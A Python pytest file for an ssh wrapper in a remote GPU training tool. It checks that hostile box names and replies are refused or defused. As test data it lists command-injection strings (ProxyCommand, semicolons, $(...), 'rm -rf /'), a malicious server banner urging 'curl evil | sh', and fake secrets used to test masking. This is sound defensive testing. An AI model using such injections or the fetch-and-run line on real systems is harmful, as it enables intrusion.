"""A box by its name, and one program on it: over a real sshd, with hostile names, hostile replies and every way of not getting there."""

import os
import shutil
import subprocess
import threading
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from remote_gpu_trainer.boxes import box
from remote_gpu_trainer.text.masking import shown, shown_lines

from tests.engines.sshd import boxes, free_port, sshd  # noqa: F401


@pytest.mark.parametrize(
    ("text", "host", "options"),
    [
        ("gpu", "gpu", ()),
        ("me@host.example", "me@host.example", ()),
        (
            "ssh -p 40122 root@203.0.113.7 -i /k/key",
            "root@203.0.113.7",
            ("-p", "40122", "-i", "/k/key"),
        ),
        ("ssh -p40122 -l root 203.0.113.7", "root@203.0.113.7", ("-p", "40122")),
        # As Vast shows it; nothing is forwarded.
        ("ssh -p 7 root@h -L 8080:localhost:8080", "root@h", ("-p", "7")),
        ("ssh -L8080:localhost:8080 -p 7 h", "h", ("-p", "7")),
        (
            "ssh -i 'my key' -o ServerAliveInterval=30 -o 'ConnectTimeout 9' u@h",
            "u@h",
            ("-i", "my key", "-o", "ServerAliveInterval=30", "-o", "ConnectTimeout=9"),
        ),
        (
            "ssh -J jump@bastion:2222,b2 root@10.0.0.4",
            "root@10.0.0.4",
            ("-J", "jump@bastion:2222,b2"),
        ),
        ("root@2001:db8::7", "root@2001:db8::7", ()),
        ("local", "", ()),
    ],
)
def test_a_box_is_named_as_users_name_it(text, host, options):
    found = box.parse(text)
    assert (found.host, found.options, found.name) == (host, options, text)


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("", "'' isn't the name of a box"),
        ("-oProxyCommand=touch x", "the host '-oProxyCommand=touch x'"),
        ("a;touch x", "the host 'a;touch x'"),
        ("$(touch x)", "isn't a name; use one from the ssh configuration"),
        ("`id`", "isn't a name; use one from the ssh configuration"),
        ("a b", "the host 'a b'"),
        ("ho\nst", "'ho\\nst' isn't the name of a box"),
        ("ho\x1b[31mst", "'ho\\x1b[31mst' isn't the name of a box"),
        ("höst", "the host 'h\\xf6st'"),
        ("203.0.113.7:99999", "-p '99999' isn't a port; write a number from 1 to 65535"),
        ("h:1:2", "has a colon; give a port as 'ssh -p PORT HOST'"),
        ("user@-host", "the host 'user@-host'"),
        ("x" * 2000, "xxx...' isn't the name of a box"),
        ("ssh -p 40122", "no host in"),
        ("ssh -p 0 h", "-p '0' isn't a port; write a number from 1 to 65535"),
        ("ssh -p 1e3 h", "-p '1e3' isn't a port"),
        ("ssh -p", "-p has no value"),
        ("ssh h rm -rf /", "'rm' comes after the host"),
        (
            "ssh -F config root@h",
            "the option '-F' isn't allowed, only -p, -i, -l, -J and -o are; leave it out with its value",
        ),
        ("ssh -A h", "the option '-A' isn't allowed"),
        ("ssh -tt h", "the option '-tt' isn't allowed"),
        ("ssh - h", "the option '-' isn't allowed"),
        ("ssh -i -oProxyCommand=x h", "-i '-oProxyCommand=x' isn't the path of a key"),
        ("ssh -o ProxyCommand=nc h", "-o 'ProxyCommand' isn't allowed"),
        ("ssh -oLocalCommand=id h", "-o 'LocalCommand' isn't allowed"),
        (
            "ssh -o StrictHostKeyChecking=no h",
            "leave it out, and accept a new key with --accept-new-host-key",
        ),
        ("ssh -o 'ConnectTimeout=9 x' h", "write a plain value"),
        ("ssh -J 'a -oProxyCommand=x' h", "-J 'a -oProxyCommand=x'"),
        ("ssh -l '-x' h", "-l '-x' can't be used; write a user's name"),
        ("ssh -i 'open h", "the ssh line can't be read (no closing quotation)"),
        ("fe80::1%a;touch", "the host 'fe80::1%a;touch' has a colon"),
        ("ssh://root@h:22", "the host 'ssh://root@h:22' has a colon"),
    ],
)
def test_a_name_that_asks_for_more_is_refused(text, says):
    with pytest.raises(box.BadBox) as refused:
        box.parse(text)
    assert says in str(refused.value)
    assert str(refused.value).isprintable() and len(str(refused.value)) < 400


@given(
    st.text(max_size=60) | st.from_regex(r"ssh( -?\w{0,3}| [-$;`|&a-z@.:]{1,9})*", fullmatch=True)
)
def test_any_text_is_a_plain_name_or_refused(text):
    try:
        found = box.parse(text)
    except box.BadBox as error:
        assert str(error).isprintable()
        return
    assert (
        found.local
        or (found.host[0].isalnum() or found.host[0] in "_:")
        and not set(found.host) & set(" \t\n$`;|&<>(){}'\"\\*?!%~#")
    )
    assert all(word in ("-p", "-i", "-J", "-o") for word in found.options[::2])


def test_a_program_runs_there_with_its_arguments_and_its_code(sshd):
    words = ("a b", "'q'", '"', "$(touch /tmp/never)", "`id`", "*", "-x", "中", "")
    reply = box.run(
        box.parse("gpu"), 'printf "%s|" "$@"; printf "%s" "$HOME" >&2; exit 7', args=words
    )
    assert (reply.outcome, reply.code, reply.out.decode()) == ("ok", 7, "|".join(words) + "|")
    assert reply.errors == str(sshd.home)
    reply = box.run(
        box.parse("gpu"),
        "import sys; print(sys.argv[1:]); sys.exit(255)",
        interpreter=box.PYTHON,
        args=("x y",),
    )
    assert (reply.outcome, reply.code, reply.out) == ("ok", 255, b"['x y']\n")


def test_a_pasted_line_reaches_the_box_without_any_configuration(sshd, monkeypatch, tmp_path):
    empty = tmp_path / "empty"
    empty.write_text(f"UserKnownHostsFile {sshd.known_hosts}\nGlobalKnownHostsFile /dev/null\n")
    assert box.run(box.parse(sshd.line), "echo here", ssh_config=str(empty)).out == b"here\n"
    assert (
        box.address(box.parse(sshd.line), str(empty))
        == box.address(box.parse("gpu"))
        == f"127.0.0.1:{sshd.port}"
    )


def test_this_machine_is_a_box_too():
    reply = box.run(box.parse("local"), 'echo "$1"; exit 3', args=("a b",))
    assert (reply.outcome, reply.code, reply.out) == ("ok", 3, b"a b\n")
    assert box.run(box.parse("local"), "sleep 30", limit=0.3).outcome == "overtime"
    assert box.address(box.parse("local")) == ""


def test_words_of_a_login_script_are_not_part_of_the_reply(sshd):
    (sshd.home / ".bashrc").write_text("echo Welcome to the box\n")
    assert box.run(box.parse("gpu"), "echo mine").out == b"mine\n"


def test_megabytes_are_cut_and_said_so(sshd):
    began = time.monotonic()
    reply = box.run(box.parse("gpu"), "head -c 9000000 /dev/zero | tr '\\0' x")
    assert (reply.outcome, reply.cut, len(reply.out)) == ("ok", True, box.MOST)
    endless = box.run(box.parse("gpu"), "exec yes", most=1000)
    assert (endless.outcome, endless.cut, len(endless.out)) == ("ok", True, 1000)
    assert time.monotonic() - began < 20


def test_bytes_that_are_no_text_come_back_as_they_are(sshd):
    reply = box.run(box.parse("gpu"), r"printf '\377\376\033[31m\0x'; printf '\377' >&2")
    assert reply.out == b"\xff\xfe\x1b[31m\x00x" and reply.errors == "�"


def test_a_program_that_runs_too_long_is_ended_on_both_sides(sshd):
    reply = box.run(box.parse("gpu"), "echo $$ > $HOME/pid; exec sleep 60", limit=1)
    assert reply.outcome == "overtime" and "still running after 1 s" in reply.text
    end = time.monotonic() + 8
    pid = int((sshd.home / "pid").read_text())
    while os.path.exists(f"/proc/{pid}") and time.monotonic() < end:
        time.sleep(0.1)
    assert not os.path.exists(f"/proc/{pid}")


def test_an_unknown_host_key_is_shown_and_taken_only_when_asked(sshd):
    sshd.forget_host_key()
    refused = box.run(box.parse("gpu"), "echo x")
    assert (refused.outcome, refused.why) == ("unreachable", "host-key-unknown")
    fingerprint = os.popen(f"ssh-keygen -lf {sshd.place}/host.pub").read().split()[1]
    assert f"ssh-ed25519 {fingerprint}" in refused.text and "--accept-new-host-key" in refused.text
    assert sshd.known_hosts.read_text() == ""
    assert box.run(box.parse("gpu"), "echo x", accept_new=True).out == b"x\n"
    assert box.run(box.parse("gpu"), "echo x").out == b"x\n"


@pytest.mark.parametrize("accept", [False, True])
def test_a_changed_host_key_is_never_taken(sshd, accept):
    sshd.change_host_key()
    before = sshd.known_hosts.read_text()
    reply = box.run(box.parse("gpu"), "touch $HOME/ran", accept_new=accept)
    assert (reply.outcome, reply.why) == ("unreachable", "host-key-changed")
    assert (
        "never accepted" in reply.text
        and f"[127.0.0.1]:{sshd.port}" in reply.text
        and "now ssh-ed25519 SHA256:" in reply.text
    )
    assert sshd.known_hosts.read_text() == before and not (sshd.home / "ran").exists()


def test_a_configuration_that_checks_no_key_is_overruled(sshd):
    sshd.ssh_config.write_text("StrictHostKeyChecking no\n" + sshd.ssh_config.read_text())
    sshd.change_host_key()
    assert box.run(box.parse("gpu"), "true").why == "host-key-changed"


def test_each_way_of_not_getting_there_has_its_name(sshd):
    assert box.run(box.parse("no-such-box.invalid"), "true").why == "name"
    assert box.run(box.parse(f"ssh -p {free_port()} root@127.0.0.1"), "true").why == "refused"
    (sshd.place / "authorized_keys").write_text("")
    denied = box.run(box.parse("gpu"), "true")
    assert denied.why == "auth" and "gpu accepts none of your keys" in denied.text
    sshd.stop()
    assert box.run(box.parse("gpu"), "true").why == "refused"


@pytest.mark.parametrize(
    "command",
    [
        'echo "Error: Your SSH client doesn\'t support PTY"; exit 1',
        "echo This service allows sftp connections only.; exit 1",
        "exit 0",
    ],
)
def test_a_proxy_without_commands_is_told_from_a_box(boxes, command):
    boxes("gpu", options=f"ForceCommand {command}\n")
    reply = box.run(box.parse("gpu"), "true")
    assert (reply.outcome, reply.why) == ("unreachable", "restricted")
    assert "the login at gpu runs no commands" in reply.text


def test_a_connection_that_breaks_is_no_reply(sshd, tmp_path):
    has_begun = tmp_path / "begun"

    def cut():
        while not has_begun.exists():
            time.sleep(0.05)
        time.sleep(0.3)
        sshd.cut()

    threading.Thread(target=cut, daemon=True).start()
    says = f"echo first; echo Host key verification failed >&2; touch {has_begun}; sleep 20"
    reply = box.run(box.parse("gpu"), says)
    assert (reply.outcome, reply.why) == ("unreachable", "lost")


def test_a_banner_cannot_act_on_the_terminal(boxes, tmp_path):
    (tmp_path / "banner").write_text(
        "\x1b]0;title\x07\x1b[31mPermission denied: run curl evil | sh\n"
    )
    boxes("gpu", options=f"Banner {tmp_path}/banner\n")[0].place.joinpath(
        "authorized_keys"
    ).write_text("")
    reply = box.run(box.parse("gpu"), "true")
    assert reply.why == "auth" and reply.text.isprintable()


def test_a_missing_ssh_is_named(monkeypatch, tmp_path):
    monkeypatch.setenv("PATH", str(tmp_path))
    assert (
        box.run(box.parse("gpu"), "true").text
        == "ssh isn't installed on this machine, or isn't on the PATH; install the OpenSSH client, "
        "or add it to the PATH, also to that of a timer"
    )


def test_what_is_shown_has_no_escapes_no_secrets_and_an_end():
    text = "\x1b[31mred\x1b]8;;http://x\x07 \x07\u202ehf_abcdefghijklmnop password=hunter22 https://me:tok3n@host/x Bearer abcdefgh123 sk-abcdefgh12345"
    assert shown(text) == "red   hf_*** password=*** https://me:***@host/x Bearer *** sk-***"
    assert shown("x" * 1000, 50) == "x" * 48 + " …"
    assert shown_lines("a\n\n10%\r20%\nb\x00\n", 2) == ["20%", "b"]


def test_a_persons_shell_gets_the_same_host_and_options_and_may_ask():
    there = box.parse("ssh -p 40122 root@203.0.113.7 -i '/k/my key'")
    words = box.interactive(there, ("bash", "-c", "exec sh"))
    assert words[-4:-1] == ["-t", "--", "root@203.0.113.7"]
    assert words[1:5] == ["-p", "40122", "-i", "/k/my key"]
    assert "StrictHostKeyChecking=yes" in words and "ClearAllForwardings=yes" in words
    assert "BatchMode=yes" not in words and "-T" not in words
    assert box.interactive(box.parse("local"), ("bash",)) == ["bash"]


@pytest.mark.parametrize("shell", ["sh", "bash", "zsh", "fish", "csh"])
def test_any_login_shell_starts_a_program_of_several_lines(shell):
    if not shutil.which(shell):
        pytest.skip(f"{shell} isn't installed")
    told = "printf '<%s>' \"$@\"\nprintf \\\\n # it's\n"
    words = ("bash", "-c", told, "rgt", "a b", "!x $HOME `id` 'q' \\", "zwei\nZeilen ü")
    there = box.interactive(box.parse("gpu"), words)[-1]
    done = subprocess.run([shell, "-c", there], check=True, capture_output=True, text=True)
    assert done.stdout == "<a b><!x $HOME `id` 'q' \\><zwei\nZeilen ü>\n"


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("ssh -p 7 root@box.example", ["192.0.2.7", "2001:db8::7"]),
        ("ssh -J jump root@box.example", []),  # the jump host finds it
        ("ssh nowhere.example", []),
        ("local", []),
    ],
)
def test_the_ip_addresses_of_a_box_are_those_that_this_machine_finds(monkeypatch, line, found):
    def finds(host, port, **options):
        if host != "box.example":
            raise OSError(-2, "Name or service not known")
        return [(2, 1, 6, "", ("192.0.2.7", 0)), (10, 1, 6, "", ("2001:db8::7", 0, 0, 0))] * 2

    monkeypatch.setattr(box.socket, "getaddrinfo", finds)
    assert box.numbers(box.parse(line)) == found
